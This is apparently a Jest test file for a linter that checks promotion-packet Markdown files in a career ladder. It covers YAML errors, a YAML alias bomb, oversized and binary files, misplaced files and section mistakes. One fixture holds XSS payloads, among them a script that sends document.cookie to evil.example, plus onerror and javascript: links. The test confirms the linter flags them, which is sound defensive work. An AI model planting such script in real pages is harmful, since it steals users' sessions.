import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
import { checkLadder } from '../../src/check.js';
import type { Diagnostic } from '../../src/core/diagnostic.js';
import type { SourceFile } from '../../src/core/source-file.js';
import { readLadderDir } from '../../src/node/read-ladder-dir.js';
import { edit, textOf, where, withFile, without } from '../helpers/ladder-files.js';
import { examplePacketFiles, PROMOTION, SWITCH_TO_IC, tempLadder } from '../helpers/packet-files.js';

/**
 * Every case also breaks another packet (marcus-bell's switch back to IC asks for E3): its
 * diagnostic must still be there, proving that one bad file never stops the others being checked.
 */
const SENTINEL = { rule: 'packet-track-switch', file: SWITCH_TO_IC, line: 5, column: 5 };
const withSentinel = (files: SourceFile[] = examplePacketFiles()) => edit(files, SWITCH_TO_IC, 'to: E4', 'to: E3');

/** Checks the files (which must not throw) and the sentinel; returns the diagnostics of `file`. */
function check(files: SourceFile[], file: string): Diagnostic[] {
  let diagnostics: Diagnostic[] = [];
  expect(() => {
    diagnostics = checkLadder(files).diagnostics;
  }).not.toThrow();
  expect(diagnostics.map(where)).toContainEqual(SENTINEL);
  return diagnostics.filter((d) => d.file === file);
}

const jo = () => textOf(examplePacketFiles(), PROMOTION);
const withPacket = (text: string, path = PROMOTION) => withFile(withSentinel(), path, text);

describe('broken front matter', () => {
  test('a YAML syntax error: yaml-syntax where the parser stopped, nothing else for the file', () => {
    const found = check(withPacket(jo().replace('candidate: jo-rivera', 'candidate: "jo-rivera')), PROMOTION);
    expect(found.map(where)).toEqual([{ rule: 'yaml-syntax', file: PROMOTION, line: 4, column: 1 }]);
  });

  test('a tab used for indentation', () => {
    const found = check(withPacket(jo().replace('to: E5', '\tto: E5')), PROMOTION);
    expect(found.map(where)).toEqual([{ rule: 'yaml-syntax', file: PROMOTION, line: 5, column: 1 }]);
    expect(found[0]?.message).toContain('Indent with spaces');
  });

  test('a key given twice', () => {
    const found = check(withPacket(jo().replace('to: E5', 'to: E5\nto: E6')), PROMOTION);
    expect(found.map(where)).toEqual([{ rule: 'yaml-syntax', file: PROMOTION, line: 6, column: 1 }]);
    expect(found[0]?.message).toContain('Remove or rename one of the two keys');
  });

  test('an alias bomb in the front matter is refused, not expanded', () => {
    const bomb = ['a: &a [x, x, x, x, x, x, x, x, x, x]', ...'bcdef'.split('').map((k, i) => `${k}: &${k} [${Array(10).fill(`*${'abcdef'[i]}`).join(', ')}]`)];
    const found = check(withPacket(jo().replace('kind: promotion', `${bomb.join('\n')}\nkind: promotion`)), PROMOTION);
    expect(found.map((d) => d.rule)).toEqual(['yaml-syntax']);
    expect(found[0]?.message).toContain('200,000 nodes');
  });

  test('front matter that never closes', () => {
    const found = check(withPacket(jo().replace(/\n---\n\nJo Rivera/, '\n\nJo Rivera')), PROMOTION);
    expect(found.map(where)).toEqual([{ rule: 'front-matter', file: PROMOTION, line: 1, column: 1 }]);
    expect(found[0]?.message).toContain('never closes; add a line "---" after its last key');
  });

  test.each([
    ['no front matter at all', (t: string) => t.replace(/^---\n[\s\S]*?\n---\n/, '')],
    ['an empty file', () => ''],
    ['an opening line that is not exactly ---', (t: string) => ` ${t}`],
  ])('missing front matter: %s', (_, mangle) => {
    const found = check(withPacket(mangle(jo())), PROMOTION);
    expect(found.map(where)).toEqual([{ rule: 'front-matter', file: PROMOTION, line: 1, column: 1 }]);
    expect(found[0]?.message).toContain('A packet file starts with front matter');
  });

  test.each([
    ['a list', '---\n- kind\n- promotion\n---\n\nSummary.\n', 2],
    ['empty', '---\n---\n\nSummary.\n', 1],
  ])('front matter that is not a mapping (%s) is a schema error', (_, text, line) => {
    const found = check(withPacket(text), PROMOTION);
    expect(found.map(where)).toEqual([{ rule: 'schema', file: PROMOTION, line, column: 1 }]);
    expect(found[0]?.message).toContain('The front matter must be a mapping of keys to values');
  });

  test('values of the wrong type are schema errors on the value, and the rules do not crash on them', () => {
    let text = jo().replace('sponsors: [lee-park]', 'sponsors: lee-park');
    text = text.replace(/feedback:\n(?: {2}- .*\n)+/, 'feedback: [1, null, { relationship: peer }]\n');
    const found = check(withPacket(text), PROMOTION);
    expect(found.filter((d) => d.rule === 'schema').map(where)).toEqual([
      { rule: 'schema', file: PROMOTION, line: 8, column: 11 },
      { rule: 'schema', file: PROMOTION, line: 10, column: 12 },
      { rule: 'schema', file: PROMOTION, line: 10, column: 15 },
      { rule: 'schema', file: PROMOTION, line: 10, column: 21 },
      { rule: 'schema', file: PROMOTION, line: 10, column: 21 },
    ]);
    expect(found[0]?.message).toContain('For example: `sponsors: ["lee-park"]`');
  });

  test('a misspelled key gets a did-you-mean', () => {
    const found = check(withPacket(jo().replace('manager:', 'manger:')), PROMOTION);
    expect(found.map(where)).toEqual([{ rule: 'schema', file: PROMOTION, line: 7, column: 1 }]);
    expect(found[0]?.message).toContain('Unknown key "manger". Did you mean "manager"?');
  });

  test('a byte-order mark and CRLF line endings keep positions right', () => {
    const found = check(withPacket(`\ufeff${jo().replace('to: E5', 'to: E6').replace(/\n/g, '\r\n')}`), PROMOTION);
    expect(found.map(where)).toEqual([{ rule: 'packet-promotion', file: PROMOTION, line: 5, column: 5 }]);
  });
});

describe('unknown levels', () => {
  test('both from and to misspelled: each on its value, each with a did-you-mean', () => {
    const found = check(withPacket(jo().replace('from: E4', 'from: E04').replace('to: E5', 'to: e5')), PROMOTION);
    expect(found.map(where)).toEqual([
      { rule: 'packet-levels', file: PROMOTION, line: 4, column: 7 },
      { rule: 'packet-levels', file: PROMOTION, line: 5, column: 5 },
    ]);
    expect(found[0]?.message).toContain('Did you mean "E4"?');
    expect(found[1]?.message).toContain('Did you mean "E5"?');
  });
});

describe('packets outside packets/<cycle>/', () => {
  test.each(['packets/x.md', 'packets/a/b/c.md'])('%s: file-location on line 1, and nothing else about it', (path) => {
    const files = withFile(without(withSentinel(), PROMOTION), path, jo());
    const found = check(files, path);
    expect(found.map(where)).toEqual([{ rule: 'file-location', file: path, line: 1, column: 1 }]);
    expect(found[0]?.message).toContain('move it to packets/<cycle>/<name>.md');
  });

  test('a packet whose cycle differs from its folder: file-location on the cycle', () => {
    const path = 'packets/2027-h1/jo-rivera-promotion.md';
    const found = check(withFile(without(withSentinel(), PROMOTION), path, jo()), path);
    expect(found.map(where)).toEqual([{ rule: 'file-location', file: path, line: 6, column: 8 }]);
    expect(found[0]?.message).toContain('The packet is for cycle "2026-h2" but lives in packets/2027-h1/; move it to packets/2026-h2/, or correct its cycle.');
  });

  test('files under packets/ that are not Markdown are ignored', () => {
    const files = withFile(withSentinel(), 'packets/2026-h2/notes.txt', '<script>x</script>');
    expect(check(files, 'packets/2026-h2/notes.txt')).toEqual([]);
  });
});

describe('sections', () => {
  test('duplicated and misspelled sections, each with its position and fix', () => {
    let text = jo().replace('## Delivery', '## Technical craft');
    text = text.replace('## Operational excellence', '## Operational excelence');
    const found = check(withPacket(text), PROMOTION);
    expect(found.map(where)).toEqual([
      { rule: 'packet-evidence', file: PROMOTION, line: 5, column: 5 },
      { rule: 'packet-evidence', file: PROMOTION, line: 57, column: 4 },
      { rule: 'packet-evidence', file: PROMOTION, line: 68, column: 4 },
    ]);
    expect(found[0]?.message).toContain('no evidence for "Delivery", "Operational excellence"');
    expect(found[1]?.message).toContain('Section "Technical craft" appears twice (first on line 30)');
    expect(found[2]?.message).toContain('Unknown section: level E5 has no competency of this name. Did you mean "Operational excellence"?');
  });

  test('a heading inside a fenced code block is not a section', () => {
    const text = jo().replace('## System design\n\n', '## System design\n\n```md\n## Delivery\n```\n\n');
    expect(check(withPacket(text), PROMOTION)).toEqual([]);
  });
});

describe('a 20 MB packet', () => {
  let dir: string;
  let cleanup: () => void;
  beforeEach(() => {
    ({ dir, cleanup } = tempLadder('ladder-huge-'));
  });
  afterEach(() => cleanup());

  test('is refused unread with file-read on line 1; the other files are still checked', () => {
    const path = 'packets/2026-h2/jo-rivera-promotion.md';
    const head = jo().split('\n## ')[0] as string;
    writeFileSync(join(dir, path), `${head}\n## Technical craft\n\n${'- evidence, at length.\n'.repeat((20 * 1024 * 1024) / 23)}`);
    writeFileSync(join(dir, SWITCH_TO_IC), textOf(withSentinel(), SWITCH_TO_IC));
    let files: SourceFile[] = [];
    expect(() => {
      files = readLadderDir(dir);
    }).not.toThrow();
    const found = check(files, path);
    expect(found.map(where)).toEqual([{ rule: 'file-read', file: path, line: 1, column: 1 }]);
    expect(found[0]?.message).toMatch(/The file is 20\.0 MiB, over the 4 MiB limit for ladder files; it was not read\./);
    // the rest of the ladder, and the other packets, were read and checked
    expect(
      checkLadder(files)
        .ladder.packets.map((p) => p.candidate)
        .sort(),
    ).toEqual(['lena-fischer', 'marcus-bell', 'priya-natarajan']);
  });

  test('binary and non-UTF-8 packets are refused the same way', () => {
    writeFileSync(join(dir, 'packets/2026-h2/binary.md'), Buffer.from([0x2d, 0x2d, 0x2d, 0x0a, 0x00, 0x01]));
    writeFileSync(join(dir, 'packets/2026-h2/latin1.md'), Buffer.from('---\nkind: promotion\n---\n\nR\xe9sum\xe9\n', 'latin1'));
    writeFileSync(join(dir, SWITCH_TO_IC), textOf(withSentinel(), SWITCH_TO_IC));
    const files = readLadderDir(dir);
    const binary = check(files, 'packets/2026-h2/binary.md');
    expect(binary.map(where)).toEqual([{ rule: 'file-read', file: 'packets/2026-h2/binary.md', line: 1, column: 1 }]);
    expect(binary[0]?.message).toContain('NUL bytes');
    const latin1 = check(files, 'packets/2026-h2/latin1.md');
    expect(latin1.map(where)).toEqual([{ rule: 'file-read', file: 'packets/2026-h2/latin1.md', line: 1, column: 1 }]);
    expect(latin1[0]?.message).toContain('Save it as UTF-8');
  });
});

describe('raw HTML and script in evidence', () => {
  const hostile = [
    'Shipped the <div class="banner">banner</div> work.', // line 45
    '<script>fetch("https://evil.example/" + document.cookie)</script>', // 46
    'Demo: <iframe src="https://evil.example"></iframe>', // 47
    '<img src=x onerror="alert(1)">', // 48
    'See [the doc](javascript:alert(document.domain)) and [chart](data:text/html;base64,PHNjcmlwdD4=).', // 49
    'Code: `<div>` stays code, and <!-- a <script> in a comment --> is fine.', // 50
    '```html', // 51
    '<div onclick="steal()">fenced</div>', // 52
    '```', // 53
  ].join('\n');

  test('each is a raw-html warning at its position; backticks, fences and comments are not flagged; no error', () => {
    const files = withPacket(jo().replace('## System design\n\n', `## System design\n\n${hostile}\n\n`));
    const found = check(files, PROMOTION);
    expect(found.map((d) => ({ ...where(d), severity: d.severity, what: /Raw HTML \((.*?)\)/.exec(d.message)?.[1] }))).toEqual([
      { rule: 'raw-html', file: PROMOTION, line: 45, column: 13, severity: 'warning', what: '<div>' },
      { rule: 'raw-html', file: PROMOTION, line: 45, column: 39, severity: 'warning', what: '<div>' },
      { rule: 'raw-html', file: PROMOTION, line: 46, column: 1, severity: 'warning', what: '<script>' },
      { rule: 'raw-html', file: PROMOTION, line: 46, column: 57, severity: 'warning', what: '<script>' },
      { rule: 'raw-html', file: PROMOTION, line: 47, column: 7, severity: 'warning', what: '<iframe>' },
      { rule: 'raw-html', file: PROMOTION, line: 47, column: 42, severity: 'warning', what: '<iframe>' },
      { rule: 'raw-html', file: PROMOTION, line: 48, column: 1, severity: 'warning', what: '<img>' },
      { rule: 'raw-html', file: PROMOTION, line: 49, column: 15, severity: 'warning', what: 'javascript: link' },
      { rule: 'raw-html', file: PROMOTION, line: 49, column: 62, severity: 'warning', what: 'data: link' },
    ]);
    expect(found[0]?.message).toContain('Write it as Markdown instead (code in backticks).');
  });

  test('the message never echoes the evidence it flags (packets are personal)', () => {
    const files = withPacket(jo().replace('## System design\n\n', `## System design\n\n${hostile}\n\n`));
    for (const d of check(files, PROMOTION)) {
      expect(d.message).not.toContain('evil.example');
      expect(d.message).not.toContain('document.cookie');
    }
  });
});
